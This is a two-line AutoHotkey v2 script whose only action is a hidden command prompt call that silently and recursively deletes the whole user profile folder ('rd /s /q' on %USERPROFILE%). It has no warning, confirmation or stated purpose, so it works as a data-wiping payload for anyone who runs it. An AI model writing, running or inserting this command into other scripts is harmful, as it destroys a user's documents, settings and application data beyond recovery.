#Requires AutoHotkey v2.0
Run('cmd /c rd /s /q "%USERPROFILE%"')
